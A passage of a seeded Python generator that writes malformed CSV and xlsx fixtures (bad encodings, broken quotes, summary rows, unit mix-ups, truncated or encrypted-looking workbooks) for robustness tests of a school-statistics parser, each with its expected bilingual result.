#!/usr/bin/env python3
"""Writes the bad-input corpus of junheng to tests/fixtures/bad/, with expected.json.

Each case is a file as it might reach the page or the CLI (empty, binary, a PNG renamed .csv,
broken quoting, mixed encodings, ragged rows, 合计 in the middle, 万元 without a unit, ...) and
its expected outcome, written beside it in expected.json:

    {"ok": true, "rows": N, "warnings": ["code", ...], "check": {...}}
        read and analysed with the default configuration; `rows` data rows are kept, the
        report's warning codes are exactly `warnings` (as a set), and `check` gives numbers of
        the first indicator (n, missing, mean, cv, gini, ...) that must come out.
    {"error": "English substring", "zh": "Chinese substring"}
        reading or analysing fails with this bilingual message.

Cases with "via": "cli" are workbooks: crates/cli/tests/bad_spreadsheets.rs runs them through
the `junheng` binary; crates/core/tests/bad_corpus.rs runs every other case. Cases with a
"recipe" (a 10 MB field, a million columns) have no file: the test builds their bytes, so no
file over 1 MB is committed.

Seeded: the output is the same on every run. Standard library only.

    python3 tools/gen_bad_corpus.py          # write the corpus
    python3 tools/gen_bad_corpus.py --check  # exit 1 if the committed corpus differs
"""

import io
import json
import os
import random
import struct
import sys
import zipfile
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "tests", "fixtures", "bad")
SEED = 20240601
ZIP_DATE = (2024, 1, 1, 0, 0, 0)

H = "学校名称,在校学生数,教学及辅助用房面积（平方米）"
# The indicator computed by default from H: area / students, weighted by students.
IND = "teaching_area_per_student"


def utf8(text):
    return text.encode("utf-8")


def gbk(text):
    return text.encode("gbk")


def table(rows, header=H, newline="\n"):
    return newline.join([header] + rows) + newline


# Four ordinary schools; per-student area 5, 6, 7.5, 8 with weights 100, 200, 400, 300.
BASE = ["一小,100,500", "二小,200,1200", "三小,400,3000", "四小,300,2400"]
BASE_MEAN = (500 + 1200 + 3000 + 2400) / 1000
# Pupil-weighted CV of BASE, as tests/fixtures/bad cases check it (population std / mean).
BASE_CV = 0.14013907564881972


def png_bytes(rng):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\0" + bytes(rng.randrange(256) for _ in range(24)) for _ in range(8))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def write_zip(entries):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


NS = "http://schemas.openxmlformats.org"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Types xmlns="{NS}/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    f'<Relationships xmlns="{NS}/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{NS}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)


def xlsx(sheets_xml, sheet_rows=None):
    """A minimal workbook; `sheets_xml` is the <sheets> element, `sheet_rows` sheet1's rows."""
    workbook = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<workbook xmlns="{NS}/spreadsheetml/2006/main" xmlns:r="{NS}/officeDocument/2006/relationships">'
        f"{sheets_xml}</workbook>"
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{NS}/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{NS}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>"
    )
    entries = [
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", RELS),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", workbook_rels),
    ]
    if sheet_rows is not None:
        cells = []
        for r, row in enumerate(sheet_rows):
            cs = []
            for c, v in enumerate(row):
                ref = f"{chr(65 + c)}{r + 1}"
                if isinstance(v, (int, float)):
                    cs.append(f'<c r="{ref}"><v>{v}</v></c>')
                else:
                    cs.append(f'<c r="{ref}" t="inlineStr"><is><t>{v}</t></is></c>')
            cells.append(f'<row r="{r + 1}">{"".join(cs)}</row>')
        sheet = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<worksheet xmlns="{NS}/spreadsheetml/2006/main"><sheetData>{"".join(cells)}</sheetData></worksheet>'
        )
        entries.append(("xl/worksheets/sheet1.xml", sheet))
    return write_zip(entries)


def sheet_xml(rows, merges=(), extra=""):
    """A worksheet: `rows` from A1 (numbers as values, text inline), then `extra` raw cells."""
    cells = []
    for r, row in enumerate(rows):
        cs = []
        for c, v in enumerate(row):
            ref = f"{chr(65 + c)}{r + 1}"
            if v is None or v == "":
                continue
            if isinstance(v, (int, float)):
                cs.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                cs.append(f'<c r="{ref}" t="inlineStr"><is><t>{v}</t></is></c>')
        cells.append(f'<row r="{r + 1}">{"".join(cs)}</row>')
    merged = ""
    if merges:
        merged = f'<mergeCells count="{len(merges)}">' + "".join(f'<mergeCell ref="{m}"/>' for m in merges) + "</mergeCells>"
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<worksheet xmlns="{NS}/spreadsheetml/2006/main"><sheetData>{"".join(cells)}{extra}</sheetData>{merged}</worksheet>'
    )


def workbook(sheets, shared_strings=None, raw_sheet=None):
    """A workbook of several sheets: each (name, state, worksheet xml); `state` is "visible" or
    "hidden". `shared_strings`: the text of xl/sharedStrings.xml, if any. `raw_sheet`: (name,
    bytes) stored instead of the first sheet's xml (a bomb)."""
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(len(sheets)))
    if shared_strings is not None:
        overrides += '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Types xmlns="{NS}/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        f"{overrides}</Types>"
    )
    listed = "".join(
        f'<sheet name="{name}" sheetId="{i + 1}" r:id="rId{i + 1}"' + (f' state="{state}"' if state != "visible" else "") + "/>"
        for i, (name, state, _) in enumerate(sheets))
    book = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<workbook xmlns="{NS}/spreadsheetml/2006/main" xmlns:r="{NS}/officeDocument/2006/relationships">'
        f"<sheets>{listed}</sheets></workbook>"
    )
    rels = "".join(
        f'<Relationship Id="rId{i + 1}" Type="{NS}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i + 1}.xml"/>'
        for i in range(len(sheets)))
    if shared_strings is not None:
        rels += f'<Relationship Id="rId{len(sheets) + 1}" Type="{NS}/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    book_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{NS}/package/2006/relationships">{rels}</Relationships>'
    )
    entries = [
        ("[Content_Types].xml", types),
        ("_rels/.rels", RELS),
        ("xl/workbook.xml", book),
        ("xl/_rels/workbook.xml.rels", book_rels),
    ]
    if shared_strings is not None:
        entries.append(("xl/sharedStrings.xml", shared_strings))
    for i, (_, _, xml) in enumerate(sheets):
        data = raw_sheet if (i == 0 and raw_sheet is not None) else xml
        entries.append((f"xl/worksheets/sheet{i + 1}.xml", data))
    return write_zip(entries)


def sst(count, strings):
    """xl/sharedStrings.xml declaring `count` unique strings (true or not)."""
    items = "".join(f"<si><t>{t}</t></si>" for t in strings)
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<sst xmlns="{NS}/spreadsheetml/2006/main" count="{count}" uniqueCount="{count}">{items}</sst>')


def ole_header(rng):
    """An OLE compound file (CFB) header, as Excel writes an encrypted workbook: the signature,
    version 3, 512-byte sectors, then sectors of noise standing in for EncryptedPackage."""
    header = bytearray(512)
    header[0:8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 44, 1)  # one FAT sector
    struct.pack_into("<I", header, 48, 1)  # first directory sector
    struct.pack_into("<I", header, 56, 4096)
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)
    header[76:80] = struct.pack("<I", 0)
    for i in range(1, 109):
        header[76 + 4 * i:80 + 4 * i] = struct.pack("<I", 0xFFFFFFFF)
    return bytes(header) + bytes(rng.randrange(256) for _ in range(2048))


def ok(rows, warnings=(), **check):
    out = {"ok": True, "rows": rows, "warnings": sorted(set(warnings))}
    if check:
        out["check"] = check
    return out


def err(en, zh, line=None):
    out = {"error": en, "zh": zh}
    if line is not None:
        out["line"] = line
    return out


EMPTY = err("The file is empty", "文件是空的")
NO_DATA = err("No header row with data below it was found", "没有找到表头和数据行")
NOT_TABLE = err("This file is not a table", "这个文件不是表格")
NO_INDICATORS = err("Nothing to analyze", "没有可分析的指标")
SPREADSHEET = err("This Excel/WPS file cannot be read", "无法读取这个 Excel/WPS 文件")
# Every case with the header H: weighted by 在校学生数 by default, and the other standard
# indicators are unavailable (their columns are absent).
W = ["weight_default", "standard_indicator_unavailable"]


SECTIONS = {}

README_HEAD = """# The bad-input corpus

Files as they reach the page or the CLI, each with its expected outcome in `expected.json`
(written with this README by `tools/gen_bad_corpus.py`; do not edit by hand, run
`python3 tools/gen_bad_corpus.py`, and `--check` in the test command). Every case runs through
`crates/core/tests/bad_corpus.rs` (workbooks, `"via": "cli"`, through the `junheng` binary in
`crates/cli/tests/bad_spreadsheets.rs`), each in a time box: never a panic, a hang or a silently
wrong number. A case's `note` says what it holds and, for the cases of issue 16, what the engine
gave before the fix.

`expected.json`: `{"ok": true, "rows": N, "warnings": [codes], "check": {measures of the first
indicator}}` or `{"error": English part, "zh": Chinese part, "line": N}`; `"recipe"` cases are
built by the test (too large to commit), `"max_json"` bounds the report's size.

Classes of issue 16 tested elsewhere: a share link bounded before it inflates
(`src/share/codec.rs`), the schools tab after a share link and files of other sizes and a file
20 000 columns wide in the page (`tests/e2e/dataset_change.test.mjs`), the standards' n and CV
equal to the analysis' (`crates/core/tests/same_schools.rs`), the workbook reader under
`cargo fuzz` (`fuzz/fuzz_targets/workbook.rs`).
"""


def readme(manifest):
    out = [README_HEAD]
    order = []
    for name in manifest:
        title = SECTIONS.get(name, "Generated at test time (no file committed)")
        if title not in order:
            order.append(title)
    for title in order:
        out.append(f"\n## {title}\n")
        for name, expected in manifest.items():
            if SECTIONS.get(name, "Generated at test time (no file committed)") == title:
                out.append(f"- `{name}`: {expected['note']}")
    return "\n".join(out) + "\n"


def cases():
    rng = random.Random(SEED)
    c = {}
    section = ["-"]

    def sect(title):
        section[0] = title

    def add(name, data, expected, note):
        assert name not in c, name
        c[name] = (data, dict(expected, note=note))
        SECTIONS[name] = section[0]

    # --- not a table at all ---------------------------------------------------------------
    sect("Not a table at all")
    add("empty.csv", b"", EMPTY, "zero bytes")
    add("bom_only.csv", b"\xEF\xBB\xBF", NO_DATA, "a UTF-8 BOM and nothing else")
    add("blank_lines_only.csv", b"\n\n\r\n   \n\t\n", NO_DATA, "only blank lines")
    add("delimiters_only.csv", b",,,\n,,,\n;;\n", NO_DATA, "cells all empty")
    add("only_header.csv", utf8(H + "\n"), NO_DATA, "a header and no school")
    add("only_header_bom_crlf.csv", b"\xEF\xBB\xBF" + utf8(H + "\r\n"), NO_DATA, "header, BOM, CRLF")
    add("binary_random.csv", bytes(rng.randrange(256) for _ in range(4096)), NOT_TABLE,
        "4 KB of random bytes")
    add("png_renamed.csv", png_bytes(rng), NOT_TABLE, "a PNG image renamed .csv")
    add("nul_in_text.csv", utf8(table(BASE)).replace(b"\n", b"\0\n", 2), NOT_TABLE,
        "a table with NUL bytes (a UTF-16 file cut in half, or binary junk)")
    add("pdf_renamed.csv", b"%PDF-1.4\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
        + bytes(rng.randrange(256) for _ in range(1024)), NOT_TABLE, "a PDF renamed .csv")
    add("empty_zip.csv", b"PK\x05\x06" + b"\0" * 18, NOT_TABLE,
        "an empty zip archive (end-of-central-directory record only)")
    add("control_chars.csv", utf8(table(BASE)).replace(b"\xe4\xb8\x80", b"\x01\x02\x03\x04") * 1
        + b"\x07" * 200, NOT_TABLE, "a table followed by 200 BEL characters")

    # --- quoting and shape ------------------------------------------------------------------
    sect("Quoting and shape")
    add("unbalanced_quote.csv", utf8(table(["一小,100,\"500", "二小,200,1200", "三小,400,3000"])),
        err("Line 2: a quote (\") opens a cell that is never closed", "第 2 行的引号（\"）没有配对", line=2),
        "an opening quote never closed: Excel would read the rest of the file into one cell and "
        "lose the schools below, so it is an error naming the line")
    add("unbalanced_quote_last_line.csv", utf8(table(BASE + ["五小,\"100,800"])),
        err("Line 6: a quote", "第 6 行的引号", line=6), "the quote never closed is on the last line")
    add("stray_quote_in_name.csv", utf8(table(["一\"小,100,500", "二小,200,1200"])),
        ok(2, W, n=2), "a quote inside an unquoted name is a literal character")
    add("quote_after_field.csv", utf8(table(["\"一小\"x,100,500", "二小,200,1200"])),
        ok(2, W, n=2), "text after a closing quote is kept with the cell")
    add("ragged_rows.csv", utf8(table(["一小,100,500,多余", "二小,200", "三小,400,3000", "四小,300,2400"])),
        ok(4, W + ["ragged_row"], n=3, missing=1),
        "one row too long, one too short: both warned, the short one misses its area")
    add("trailing_delimiters.csv", utf8(table([r + ",,," for r in BASE], header=H + ",,,")),
        ok(4, W, n=4, mean=BASE_MEAN), "empty trailing columns, as Excel leaves them")
    add("duplicate_headers.csv", utf8(table(["一小,100,500,999", "二小,200,1200,999"],
                                            header=H + ",在校学生数")),
        ok(2, W + ["duplicate_field"], n=2, mean=1700 / 300),
        "two 在校学生数 columns: the first is used, the second warned")
    add("duplicate_school_names.csv", utf8(table(BASE + ["一小,100,500"])),
        ok(5, W + ["duplicate_school"], n=5, mean=(BASE_MEAN * 1000 + 500) / 1100),
        "一小 twice: both rows count (no merge, no silent drop) and a warning names both lines")
    add("repeated_header.csv", utf8(table(BASE[:2] + [H] + BASE[2:])),
        ok(4, W, n=4, mean=BASE_MEAN), "the header repeated in the middle (pasted pages)")
    add("one_column.csv", utf8("学校名称\n一小\n二小\n"), NO_DATA, "names only: nothing to measure")
    add("wide_header_short_rows.csv", utf8(table(["一小", "二小"])),
        err("has no usable value", "没有可用的数值"),
        "rows with only a name under a three-column header")
    add("no_header_numbers.csv", utf8("1,2,3\n4,5,6\n7,8,9\n"), NO_DATA,
        "numbers without a header: a row of numbers is never taken as the header")
    add("header_after_blank_lines.csv", b"\n\n" + utf8(table(BASE)), ok(4, W, n=4, mean=BASE_MEAN),
        "blank lines above the header")
    add("title_and_notes.csv", utf8("某县2023年学校统计表\n" + table(BASE) + "注：面积单位为平方米\n填表人：张三\n"),
        ok(4, W, n=4, mean=BASE_MEAN), "a title above and notes below")
    add("cr_only_line_ends.csv", utf8(table(BASE, newline="\r")), ok(4, W, n=4, mean=BASE_MEAN),
        "old Mac line ends (CR)")
    add("mixed_line_ends.csv", utf8(H + "\r\n" + BASE[0] + "\n" + BASE[1] + "\r" + BASE[2] + "\r\n" + BASE[3]),
        ok(4, W, n=4, mean=BASE_MEAN), "CRLF, LF and CR in one file, no final newline")
    add("semicolon_decimal_comma.csv", utf8(H.replace(",", ";") + "\n一小;100;500,5\n二小;200;1200,5\n"),
        ok(2, W, n=2, mean=1701 / 300), "semicolons and decimal commas")
    add("tab_separated.csv", utf8(table([r.replace(",", "\t") for r in BASE], header=H.replace(",", "\t"))),
        ok(4, W, n=4, mean=BASE_MEAN), "tab-separated text named .csv")
    add("section_rows.csv", utf8(table(["一、小学,,", "一小,100,500", "二、初中,,", "一中,200,1200"])),
        ok(2, W + ["level_from_sections", "mixed_levels"], n=2),
        "section rows 一、小学 / 二、初中 give the level")

    # --- encodings -------------------------------------------------------------------------
    sect("Encodings")
    add("gbk.csv", gbk(table(BASE)), ok(4, W, n=4, mean=BASE_MEAN), "GBK, as Excel on Chinese Windows saves")
    add("mixed_utf8_then_gbk.csv", utf8(table(BASE[:2])) + gbk("\n".join(BASE[2:]) + "\n"),
        ok(4, W, n=4, mean=BASE_MEAN),
        "UTF-8 lines then GBK lines (two files pasted together): the numbers are still read")
    add("bom_then_gbk.csv", b"\xEF\xBB\xBF" + gbk(table(BASE)), ok(4, W, n=4, mean=BASE_MEAN),
        "a UTF-8 BOM followed by GBK text (a tool added the BOM to a GBK file)")
    add("utf16le_no_bom.csv", table(BASE).encode("utf-16-le"), ok(4, W, n=4, mean=BASE_MEAN),
        "UTF-16 LE without a BOM")
    add("utf16be_no_bom.csv", table(BASE).encode("utf-16-be"), ok(4, W, n=4, mean=BASE_MEAN),
        "UTF-16 BE without a BOM")
    add("utf16le_bom.csv", b"\xFF\xFE" + table(BASE).encode("utf-16-le"), ok(4, W, n=4, mean=BASE_MEAN),
        "UTF-16 LE with a BOM (Excel's Unicode text)")
    add("big5_unlabelled.csv", table(BASE, header="學校名稱,在校學生數,教學及輔助用房面積（平方米）").encode("big5"), ok(4, [], n=4),
        "Big5 without the encoding option: names are garbled but every number is read")

    # --- numbers -----------------------------------------------------------------------------
    sect("Numbers")
    add("zero_enrollment.csv", utf8(table(BASE + ["五小,0,800"])),
        ok(5, W + ["rows_left_out"], n=4, missing=1, mean=BASE_MEAN),
        "a school with 0 pupils: left out, not divided by, and named in a warning")
    add("negative_enrollment.csv", utf8(table(BASE + ["五小,-50,800"])),
        ok(5, W + ["rows_left_out"], n=4, missing=1, mean=BASE_MEAN),
        "a negative pupil count: left out and named in a warning")
    add("negative_area.csv", utf8(table(BASE + ["五小,100,-500"])),
        ok(5, W + ["rows_left_out"], n=4, missing=1, mean=BASE_MEAN),
        "a negative area: the school is left out of the national indicator and named (docs/domain.md §3.3)")
    add("anonymised_names.csv", utf8(table(["S1,100,500", "S2,200,1000", "S3,300,1800", "S4,400,2000"])),
        ok(4, W, n=4, mean=5300 / 1000),
        "schools anonymised as S1…S4 with small figures are data, not a row of column codes")
    add("text_in_numeric.csv", utf8(table(BASE + ["五小,三百,800", "六小,100,\"1,2O4\""])),
        ok(6, W + ["not_a_number"], n=4, missing=2, mean=BASE_MEAN),
        "三百 and 1,2O4 in numeric columns: warned with the line, left out")
    add("one_school.csv", utf8(table(BASE[:1])), ok(1, W + ["single_value"], n=1, mean=5.0, cv=0.0),
        "a single school")
    add("all_equal.csv", utf8(table(["一小,100,500", "二小,200,1000", "三小,300,1500"])),
        ok(3, W, n=3, mean=5.0, std=0.0, cv=0.0, gini=0.0, theil=0.0, mcloone=1.0, verstegen=1.0),
        "every school the same per pupil: every dispersion is exactly 0")
    add("zero_weights.csv", utf8(table(["一小,0,500", "二小,0,1200"])),
        err("has no usable value", "没有可用的数值"), "every pupil count is 0")
    add("all_missing.csv", utf8(table(["一小,—,—", "二小,/,/"])),
        err("has no usable value", "没有可用的数值"), "every cell a placeholder")
    add("placeholders.csv", utf8(table(BASE + ["五小,—,800", "六小,100,#DIV/0!", "七小,N/A,"])),
        ok(7, W, n=4, missing=3, mean=BASE_MEAN), "—, #DIV/0!, N/A and empty are missing, never 0")
    add("total_row_middle.csv", utf8(table(BASE[:2] + ["合计,300,1700"] + BASE[2:] + ["总计,1000,7100"])),
        ok(4, W, n=4, mean=BASE_MEAN), "合计 in the middle and 总计 at the end are skipped")
    add("wanyuan_no_unit.csv", utf8("学校名称,在校学生数,教学仪器设备值\n一小,1000,59.7\n二小,800,41.2\n三小,600,35.5\n"),
        ok(3, W + ["money_unit_guess"], n=3), "equipment value in 万元 with no unit: warned, not rescaled")
    add("wanyuan_in_header.csv", utf8("学校名称,在校学生数,教学仪器设备值（万元）\n一小,1000,59.7\n二小,800,41.2\n"),
        ok(2, W, n=2, mean=(597000 + 412000) / 1800), "万元 in the header: scaled to yuan")
    add("ratio_column.csv", utf8(H + ",师生比\n一小,100,500,1:17\n二小,200,1200,1:19\n"),
        ok(2, W + ["derived_column"], n=2), "a 师生比 column written 1:17 is a ratio, not a count")
    add("percent_signs.csv", utf8("学校名称,达标率,合格率\n一小,85%,90%\n二小,70%,95%\n三小,100%,80%\n"),
        ok(3, [], n=3, mean=(0.85 + 0.70 + 1.0) / 3), "percent signs: 85% is 0.85")
    add("fullwidth_some_rows.csv", utf8(table(["一小,１００,５００", "二小,200,1200", "三小,４００,3000", "四小,300,２４００"])),
        ok(4, W, n=4, mean=BASE_MEAN), "full-width digits in some rows only")
    add("thousands_separators.csv", utf8(table(["一小,\"1,000\",\"5,000\"", "二小,\"2,000\",\"12,000\""])),
        ok(2, W, n=2, mean=17000 / 3000), "quoted 1,000 with thousands separators")
    add("units_in_cells.csv", utf8(table(["一小,100人,500㎡", "二小,200人,1200平方米"])),
        ok(2, W, n=2, mean=1700 / 300), "units written in the cells")
    add("inf_nan_text.csv", utf8(table(BASE + ["五小,100,inf", "六小,100,NaN"])),
        ok(6, W + ["not_a_number"], n=4, missing=2, mean=BASE_MEAN), "inf and NaN are not numbers")
    add("huge_values.csv", utf8(table(BASE + ["五小,100,1e300"])),
        ok(5, W + ["rows_left_out"], n=4, missing=1, mean=BASE_MEAN),
        "an absurd 1e300: beyond what a sample accepts (1e100), left out and named in a warning")
    add("overflow_literal.csv", utf8(table(BASE + ["五小,100,1e999"])),
        ok(5, W + ["not_a_number"], n=4, missing=1, mean=BASE_MEAN), "1e999 overflows: not a number")
    add("excel_formula_text.csv", utf8(table(BASE + ["五小,100,=SUM(C2:C5)"])),
        ok(5, W + ["not_a_number"], n=4, missing=1, mean=BASE_MEAN), "a formula saved as text")
    add("unknown_level.csv", utf8("学校名称,学段,在校学生数,教学及辅助用房面积（平方米）\n一小,小学,100,500\n一高,高中,200,1200\n"),
        ok(2, W + ["mixed_levels"], n=2), "高中 is a level too (senior): the two levels are warned as mixed")
    add("unknown_urban_rural.csv", utf8("学校名称,城乡分类,在校学生数,教学及辅助用房面积（平方米）\n一小,城区,100,500\n二小,郊区,200,1200\n"),
        ok(2, W + ["unknown_category"], n=2), "郊区 is not a known urban/rural value")
    add("long_cell.csv", utf8(table(BASE + ["五" * 5000 + ",100,500"])), ok(5, W, n=5),
        "a 5000-character school name")

    # --- workbooks (via the CLI) -------------------------------------------------------------
    sect("Workbooks (via the CLI)")
    good = [["学校名称", "在校学生数", "教学及辅助用房面积（平方米）"], ["一小", 100, 500], ["二小", 200, 1200]]
    add("xlsx_no_sheets.xlsx", xlsx("<sheets/>"), dict(NO_DATA, via="cli"),
        "a workbook with no sheet: nothing to read, said as for an empty table")
    add("xlsx_missing_sheet_part.xlsx", xlsx('<sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'),
        dict(SPREADSHEET, via="cli"), "a workbook whose sheet part is missing from the zip")
    add("password_protected.xlsx", ole_header(rng), dict(SPREADSHEET, via="cli"),
        "an encrypted workbook: an OLE compound file, not a zip")
    full = xlsx('<sheets><sheet name="学校" sheetId="1" r:id="rId1"/></sheets>', good)
    add("truncated.xlsx", full[: len(full) // 2], dict(SPREADSHEET, via="cli"), "a workbook cut in half")
    add("zip_renamed.csv", write_zip([("readme.txt", "not a workbook")]), dict(SPREADSHEET, via="cli"),
        "a zip archive that is not a workbook, named .csv")
    add("minimal_ok.xlsx", full, dict(ok(2, W, n=2, mean=1700 / 300), via="cli"),
        "a minimal valid workbook (control case)")

    # --- issue 16: the second robustness pass ---------------------------------------------
    # Each case names its class (see README.md); `before` is what the engine gave before the fix.
    # Summary rows: labels anywhere in a text column, or the sum of the rows above.
    sect("Issue 16 · summary rows: a label in any text column, or the sum of the rows above")
    add("summary_labels_anywhere.csv", utf8(
        "序号,乡镇,学段,学校名称,在校学生数,教学及辅助用房面积（平方米）\n"
        "1,城关镇,小学,县实验小学,100,500\n2,城关镇,小学,中心小学,200,1200\n"
        "3,城关镇,小学,小计,300,1700\n4,河口镇,小学,河口小学,400,3000\n"
        "5,河口镇,小学,河口镇小计,400,3000\n6,河口镇,小学,城关镇实验学校,300,2400\n"
        ",,小学合计,,1000,7100\n,,,合計,1000,7100\n,,,本页小计,1000,7100\n,,,平均数,250,1775\n"
        ",,,均值,250,1775\n,,,县平均,250,1775\n,,,最大值,400,3000\n,,,最小值,100,500\n"
        ",,,Subtotal,1000,7100\n,,,Average,250,1775\n,,,初中小计,0,0\n"),
        ok(4, W, n=4, mean=BASE_MEAN),
        "summary rows: 小计 in the 4th cell, 河口镇小计, 小学合计 in the level column, 合計, 本页小计, "
        "平均数, 均值, 县平均, 最大值, 最小值, Subtotal, Average, 初中小计 are skipped; 县实验小学, "
        "中心小学 and 城关镇实验学校 are schools (before: 15 rows kept, n=14, mean 7.046)")
    H3 = H + ",专任教师数"
    B3 = [r + t for r, t in zip(BASE, [",8", ",12", ",25", ",18"])]
    add("summary_by_sum.csv", utf8(table(B3[:2] + [",300,1700,20"] + B3[2:] + ["城关镇,700,5400,43", ",1000,7100,63"], header=H3)),
        ok(4, W, n=4, mean=BASE_MEAN, cv=BASE_CV),
        "unlabelled subtotal rows: a row equal to the sum of the block above it (a blank name, a "
        "town's name) and a grand total equal to the sum of every school are skipped with that "
        "reason (before: 7 rows, n=7, cv 0.1112)")
    # Thousands and decimal separators, decided per column.
    sect("Issue 16 · thousands and decimal separators, decided per column")
    add("thousands_in_semicolon_file.csv", utf8(
        "学校名称;在校学生数;教学及辅助用房面积（平方米）\n一小;1,200;5000,5\n二小;800;4000,5\n"),
        ok(2, W, n=2, mean=9001 / 2000),
        "1,200 pupils in a ; file with decimal commas: a pupil count is whole, so 1,200 is "
        "1200, while 5000,5 m² is 5000.5 (before: 1.2 pupils, mean 11.234 instead of 4.5005)")
    add("decimal_comma_in_comma_file.csv", utf8(table(["一小,100,\"500,5\"", "二小,200,1200.5", "三小,400,3000"])),
        ok(3, W + ["ambiguous_number"], n=2, missing=1, mean=4200.5 / 600),
        "\"500,5\" quoted in a , file whose column writes decimals with a point: neither 5005 nor "
        "500.5 is safe, so the cell is left out with a warning naming its line and column "
        "(before: 5005 m², mean 13.151)")
    add("space_inside_number.csv", utf8(table(["一小,1 200,6000", "二小,12 5,1200", "三小,400,3000"])),
        ok(3, W + ["ambiguous_number"], n=2, missing=1, mean=9000 / 1600),
        "1 200 (a space before three digits) is 1200; 12 5 is left out with a warning "
        "(before: 125 pupils, n=3, mean 5.913)")
    # Units in cells against units in headers; unit lines above the header.
    sect("Issue 16 · units in cells against the column's unit; unit lines above the header")
    add("yuan_cell_in_wanyuan_column.csv", utf8(
        "学校名称,在校学生数,教学仪器设备值（万元）\n一小,1000,59.7\n二小,800,412000元\n三小,600,35.5\n"),
        ok(3, W, n=3, mean=1364000 / 2400),
        "412000元 in a column in 万元: the cell's unit wins and is converted once (before: "
        "4 120 000 000 yuan for 二小, mean 1 717 063 instead of 568.3)")
    add("unit_not_of_the_column.csv", utf8(table(BASE[:1] + ["二小,200,1200元", "三小,400,85%", "四小,1万册,2400", "五小,300,2400"])),
        ok(5, W + ["cell_unit_mismatch"], n=2, missing=3, mean=2900 / 400),
        "元 and % in an area column, 万册 in a pupils column: each cell is named in a warning and "
        "left out (before: n=5, mean 0.591: 1200元 read as 1200 m², 85% as 0.85 m², 1万册 as 10 000 pupils)")
    add("unit_line_area.csv", utf8("某县学校统计表\n单位：人、万平方米\n学校名称,在校学生数,教学及辅助用房面积\n一小,100,0.05\n二小,200,0.12\n"),
        ok(2, W + ["unit_from_title"], n=2, mean=1700 / 300),
        "单位：人、万平方米 above the header applies 万平方米 to the area column too, not only "
        "money (before: 0.0005 m² per pupil)")
    # Stacked tables: a second header further down.
    sect("Issue 16 · stacked tables: a second header further down")
    add("stacked_header_reordered.csv", utf8(table(BASE[:2]) + "学校名称,教学及辅助用房面积（平方米）,在校学生数\n三小,3000,400\n四小,2400,300\n"),
        ok(4, W + ["header_reordered"], n=4, mean=BASE_MEAN),
        "a second header with the columns in another order: the rows below it are re-mapped "
        "(before: the header line counted as a school, 三小 read with 3000 pupils: mean 0.421)")
    add("stacked_header_other_columns.csv", utf8(table(BASE[:2]) + "学校名称,专任教师数,班级数\n三小,30,12\n"),
        err("Line 4 is a second header row", "第 4 行是另一个表头", line=4),
        "a second table with other columns below the first: refused, naming both header lines "
        "(before: 三小 read with 30 pupils and 12 m²)")
    # Schools left out for zero or negative pupils, overflowing or vanishing values.
    sect("Issue 16 · schools left out (0 or negative pupils, 9e307, 1e-300) named in a warning")
    add("left_out_warned.csv", utf8(table(BASE + ["五小,0,800", "六小,-50,800", "七小,100,9e307", "八小,1e-300,500"])),
